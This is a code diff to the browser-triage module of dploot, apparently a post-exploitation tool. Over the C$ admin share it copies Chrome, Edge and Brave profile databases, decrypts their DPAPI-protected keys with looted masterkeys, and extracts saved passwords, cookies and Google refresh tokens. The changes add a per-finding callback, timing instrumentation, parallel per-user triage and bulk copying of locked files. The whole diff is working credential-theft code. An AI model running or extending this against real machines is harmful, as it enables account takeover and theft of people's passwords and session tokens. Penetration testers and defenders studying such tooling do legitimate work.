@@ -1,14 +1,15 @@
 import base64
 import json
 import logging
-import ntpath
 import tempfile
 import sqlite3
-from typing import List, Tuple
+import sys
+from typing import Callable, List, Tuple
 from dploot.lib.crypto import decrypt_chrome_password
 
 from dploot.lib.dpapi import decrypt_blob, find_masterkey_for_blob
 from dploot.lib.smb import DPLootSMBConnection
+from dploot.lib.stats import instrument, stats
 from dploot.lib.target import Target
 from dploot.lib.utils import datetime_to_time
 from dploot.triage.masterkeys import Masterkey
@@ -16,6 +17,7 @@ from dataclasses import dataclass
 
 @dataclass
 class LoginData:
+    __slots__ = ('winuser', 'browser', 'url', 'username', 'password')
     winuser: str
     browser: str
     url: str
@@ -35,6 +37,7 @@ class LoginData:
 
 @dataclass
 class Cookie:
+    __slots__ = ('winuser', 'browser', 'host', 'path', 'cookie_name', 'cookie_value', 'creation_utc', 'expires_utc', 'last_access_utc')
     winuser: str
     browser:str
     host:str
@@ -61,6 +64,7 @@ class Cookie:
 
 @dataclass
 class GoogleRefreshToken:
+    __slots__ = ('winuser', 'browser', 'service', 'token')
     winuser: str
     browser: str
     service: str
@@ -79,30 +83,30 @@ class BrowserTriage:
 
     false_positive = ['.','..', 'desktop.ini','Public','Default','Default User','All Users']
     user_google_chrome_generic_login_path = {
-        'aesStateKeyPath':'Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Local State',
-        'loginDataPath':'Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data',
-        'webDataPath':'Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Web Data',
+        'aesStateKeyPath':'%s\\AppData\\Local\\Google\\Chrome\\User Data\\Local State',
+        'loginDataPath':'%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data',
+        'webDataPath':'%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Web Data',
         'cookiesDataPath':[
-            'Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cookies',
-            'Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Network\\Cookies'
+            '%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cookies',
+            '%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Network\\Cookies'
         ]
     }
     user_msedge_generic_login_path = {
-        'aesStateKeyPath':'Users\\%s\\AppData\\Local\\Microsoft\\Edge\\User Data\\Local State',
-        'loginDataPath':'Users\\%s\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Login Data',
-        'webDataPath':'Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Web Data',
+        'aesStateKeyPath':'%s\\AppData\\Local\\Microsoft\\Edge\\User Data\\Local State',
+        'loginDataPath':'%s\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Login Data',
+        'webDataPath':'%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Web Data',
         'cookiesDataPath':[
-            'Users\\%s\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cookies',
-            'Users\\%s\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies'
+            '%s\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cookies',
+            '%s\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies'
         ]
     }
     user_brave_generic_login_path = {
-        'aesStateKeyPath':'Users\\%s\\AppData\\Local\\BraveSoftware\\Brave-Browser\\User Data\\Local State',
-        'loginDataPath':'Users\\%s\\AppData\\Local\\BraveSoftware\\Brave-Browser\\User Data\\Default\\Login Data',
-        'webDataPath':'Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Web Data',
+        'aesStateKeyPath':'%s\\AppData\\Local\\BraveSoftware\\Brave-Browser\\User Data\\Local State',
+        'loginDataPath':'%s\\AppData\\Local\\BraveSoftware\\Brave-Browser\\User Data\\Default\\Login Data',
+        'webDataPath':'%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Web Data',
         'cookiesDataPath':[
-            'Users\\%s\\AppData\\Local\\BraveSoftware\\Brave-Browser\\User Data\\Default\\Cookies',
-            'Users\\%s\\AppData\\Local\\BraveSoftware\\Brave-Browser\\User Data\\Default\\Network\\Cookies'
+            '%s\\AppData\\Local\\BraveSoftware\\Brave-Browser\\User Data\\Default\\Cookies',
+            '%s\\AppData\\Local\\BraveSoftware\\Brave-Browser\\User Data\\Default\\Network\\Cookies'
         ]
     }
     user_generic_chrome_paths = {
@@ -113,40 +117,59 @@ class BrowserTriage:
 
     share = 'C$'
 
-    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey]) -> None:
+    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey], per_finding_callback: Callable[["LoginData | Cookie | GoogleRefreshToken"], None] = None) -> None:
         self.target = target
         self.conn = conn
         
         self._users = None
         self.looted_files = dict()
         self.masterkeys = masterkeys
+        self.per_finding_callback = per_finding_callback
 
+    def found(self, finding: "LoginData | Cookie | GoogleRefreshToken") -> "LoginData | Cookie | GoogleRefreshToken":
+        ''' Hands finding to per_finding_callback as soon as it is decrypted, before the triage returns '''
+        if self.per_finding_callback is not None:
+            self.per_finding_callback(finding)
+        return finding
+
+    @instrument()
     def triage_browsers(self, gather_cookies:bool = False) -> Tuple[List[LoginData], List[Cookie]]:
         credentials = list()
         cookies = list()
 
-        for user in self.users:
-            try:
-                user_credentials, user_cookies=self.triage_browsers_for_user(user, gather_cookies)
+        # browsers keep their databases open: copy all the locked ones at once
+        self.conn.acquire_locked_files(self.share, self.browser_files(gather_cookies))
+        try:
+            for user_credentials, user_cookies in self.conn.map(lambda user: self.triage_browsers_for_user(user, gather_cookies), self.users):
                 credentials += user_credentials
                 cookies += user_cookies
-            except Exception as e:
-                if logging.getLogger().level == logging.DEBUG:
-                    import traceback
-                    traceback.print_exc()
-                    logging.debug(str(e))
-                pass
+        finally:
+            self.conn.release_locked_files()
         return credentials, cookies
 
+    def browser_files(self, gather_cookies:bool = False) -> List[str]:
+        ''' Returns the paths of every browser file read for every user '''
+        files = list()
+        for user in self.users:
+            profile_path = self.conn.user_profile_path(user)
+            for paths in self.user_generic_chrome_paths.values():
+                files += [paths['aesStateKeyPath'] % profile_path, paths['loginDataPath'] % profile_path, paths['webDataPath'] % profile_path]
+                if gather_cookies:
+                    files += [cookiepath % profile_path for cookiepath in paths['cookiesDataPath']]
+        return files
+
+    @instrument()
     def triage_browsers_for_user(self, user: str, gather_cookies:bool = False) -> Tuple[List[LoginData], List[Cookie]]:
         return self.triage_chrome_browsers_for_user(user=user, gather_cookies=gather_cookies)
 
+    @instrument()
     def triage_chrome_browsers_for_user(self,user:str, gather_cookies:bool = False) -> Tuple[List[LoginData], List[Cookie]]:
         credentials = list()
         cookies = list()
+        profile_path = self.conn.user_profile_path(user)
         for browser,paths in self.user_generic_chrome_paths.items():
             aeskey = None
-            aesStateKey_bytes = self.conn.readFile(shareName=self.share, path=paths['aesStateKeyPath'] % user, bypass_shared_violation=True)
+            aesStateKey_bytes = self.conn.readFile(shareName=self.share, path=paths['aesStateKeyPath'] % profile_path, bypass_shared_violation=True)
             if aesStateKey_bytes is not None and len(aesStateKey_bytes) > 0:
                 logging.debug('Found %s AppData files for user %s' % (browser.upper(), user))
                 aesStateKey_json = json.loads(aesStateKey_bytes)
@@ -157,85 +180,81 @@ class BrowserTriage:
                     if masterkey is not None:
                         aeskey = decrypt_blob(blob_bytes=dpapi_blob, masterkey=masterkey)
 
-            loginData_bytes = self.conn.readFile(shareName=self.share, path=paths['loginDataPath'] % user, bypass_shared_violation=True)
+            loginData_bytes = self.conn.readFile(shareName=self.share, path=paths['loginDataPath'] % profile_path, bypass_shared_violation=True)
             if aeskey is not None and loginData_bytes is not None and len(loginData_bytes) > 0:
                 fh = tempfile.NamedTemporaryFile()
                 fh.write(loginData_bytes)
                 fh.seek(0)
                 db = sqlite3.connect(fh.name)
                 cursor = db.cursor()
-                query = cursor.execute(
-                    'SELECT action_url, username_value, password_value FROM logins')
-                lines = query.fetchall()
+                with stats.timer('BrowserTriage.sqlite'):
+                    query = cursor.execute(
+                        'SELECT action_url, username_value, password_value FROM logins')
+                    lines = query.fetchall()
                 if len(lines) > 0:
                     for url, username, encrypted_password in lines:
                         password = decrypt_chrome_password(encrypted_password, aeskey)
-                        credentials.append(LoginData(
+                        credentials.append(self.found(LoginData(
                             winuser=user, 
                             browser=browser, 
                             url=url, 
                             username=username, 
-                            password=password))
+                            password=password)))
                 fh.close()
             if gather_cookies:
                 for cookiepath in paths['cookiesDataPath']:
-                    cookiesData_bytes = self.conn.readFile(shareName=self.share, path=cookiepath % user, bypass_shared_violation=True)
+                    cookiesData_bytes = self.conn.readFile(shareName=self.share, path=cookiepath % profile_path, bypass_shared_violation=True)
                     if aeskey is not None and cookiesData_bytes is not None and len(cookiesData_bytes) > 0:
                         fh = tempfile.NamedTemporaryFile()
                         fh.write(cookiesData_bytes)
                         fh.seek(0)
                         db = sqlite3.connect(fh.name)
                         cursor = db.cursor()
-                        query = cursor.execute(
-                            'SELECT creation_utc, host_key, name, path, expires_utc, last_access_utc, encrypted_value FROM cookies')
-                        lines = query.fetchall()
+                        with stats.timer('BrowserTriage.sqlite'):
+                            query = cursor.execute(
+                                'SELECT creation_utc, host_key, name, path, expires_utc, last_access_utc, encrypted_value FROM cookies')
+                            lines = query.fetchall()
                         if len(lines) > 0:
                             for creation_utc, host, name, path, expires_utc, last_access_utc, encrypted_cookie in lines:
                                 cookie = decrypt_chrome_password(encrypted_cookie, aeskey)
-                                cookies.append(Cookie(
+                                cookies.append(self.found(Cookie(
                                     winuser=user,
                                     browser=browser,
-                                    host=host,
-                                    path=path,
+                                    # the same hosts and paths come back on many rows
+                                    host=sys.intern(host),
+                                    path=sys.intern(path),
                                     cookie_name=name,
                                     cookie_value=cookie,
                                     creation_utc=creation_utc,
                                     expires_utc=expires_utc,
-                                    last_access_utc=last_access_utc))
+                                    last_access_utc=last_access_utc)))
                         fh.close()
-            webData_bytes = self.conn.readFile(shareName=self.share, path=paths['webDataPath'] % user, bypass_shared_violation=True)
+            webData_bytes = self.conn.readFile(shareName=self.share, path=paths['webDataPath'] % profile_path, bypass_shared_violation=True)
             if aeskey is not None and webData_bytes is not None and len(webData_bytes) > 0:
                 fh = tempfile.NamedTemporaryFile()
                 fh.write(webData_bytes)
                 fh.seek(0)
                 db = sqlite3.connect(fh.name)
                 cursor = db.cursor()
-                query = cursor.execute('SELECT service, encrypted_token FROM token_service')
-                lines = query.fetchall()
+                with stats.timer('BrowserTriage.sqlite'):
+                    query = cursor.execute('SELECT service, encrypted_token FROM token_service')
+                    lines = query.fetchall()
                 if len(lines) > 0:
                     for service, encrypted_grt in lines:
                         token = decrypt_chrome_password(encrypted_grt, aeskey)
-                        credentials.append(GoogleRefreshToken(
+                        credentials.append(self.found(GoogleRefreshToken(
                             winuser=user,
                             browser=browser,
                             service=service,
                             token = token
-                        ))
+                        )))
         return credentials, cookies
 
     @property
     def users(self) -> List[str]:
         if self._users is not None:
             return self._users
-        
-        users = list()
-
-        users_dir_path = 'Users\\*'
-        directories = self.conn.listPath(shareName=self.share, path=ntpath.normpath(users_dir_path))
-        for d in directories:
-            if d.get_longname() not in self.false_positive and d.is_directory() > 0:
-                users.append(d.get_longname())
-    
-        self._users = users
+
+        self._users = [profile.username for profile in self.conn.list_user_profiles()]
 
         return self._users
\ No newline at end of file